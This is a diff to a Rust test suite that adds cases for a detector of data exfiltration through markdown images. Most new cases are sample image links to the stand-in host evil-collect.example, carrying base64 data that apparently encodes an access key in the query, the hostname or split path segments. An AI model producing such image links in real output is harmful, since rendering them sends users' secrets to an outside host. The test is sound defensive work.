@@ -264,6 +264,15 @@ fn markdown_images_carrying_data_outside_the_allowlist_are_exfiltration() {
         ("badge_with_short_query", "![build](https://img.shields.io/badge/build-passing-green?style=flat)", false),
         ("plain_link_with_long_query", "[s3](https://bucket.s3.amazonaws.com/f.pdf?X-Amz-Signature=0123456789abcdef0123456789abcdef)", false),
         ("commit_link", "[3f7868](https://gitlab.example/o/r/-/commit/3f786850e387550fdab836ed7e6dc881de23001b)", false),
+        // Eleventh review H1: CommonMark's other image forms, data in pieces.
+        ("reference_style_image", "![s][1]\n\n[1]: https://evil-collect.example/p.png?d=QUtJQTEyMzQ1Njc4OTBBQkNERUZHSElKS0xNTk9Q", true),
+        ("angle_bracket_destination", "![s](<https://evil-collect.example/p.png?d=QUtJQTEyMzQ1Njc4OTBBQkNERUZHSElKS0xNTk9Q>)", true),
+        ("blanks_before_the_url", "![s](  https://evil-collect.example/p.png?d=QUtJQTEyMzQ1Njc4OTBBQkNERUZHSElKS0xNTk9Q )", true),
+        ("line_break_before_the_url", "![s](\nhttps://evil-collect.example/p.png?d=QUtJQTEyMzQ1Njc4OTBBQkNERUZHSElKS0xNTk9Q\n)", true),
+        ("data_in_the_host", "![s](https://qutjqtezndu2nzg5mebbqknerkdisuplte.evil-collect.example/p.png)", true),
+        ("data_split_over_path_segments", "![s](https://evil-collect.example/QUtJQTEy/MzQ1Njc4/OTBBQk9E/RUZHSE1K/S0xNTk9Q/p.png)", true),
+        ("data_split_over_query_values", "![s](https://evil-collect.example/p.png?a=QUtJQTEyMzQ1&b=Njc4OTBBQkNE&c=RUZHSElKS0xN&d=Tk9QQUtJQTEy)", true),
+        ("reference_link_without_an_image", "see [1]\n\n[1]: https://evil-collect.example/p.png?d=QUtJQTEyMzQ1Njc4OTBBQkNERUZHSElKS0xNTk9Q", false),
     ];
     for (name, text, want) in cases {
         let got = checks_of(&allow.inspect_text(text)).contains(&Exfiltration);
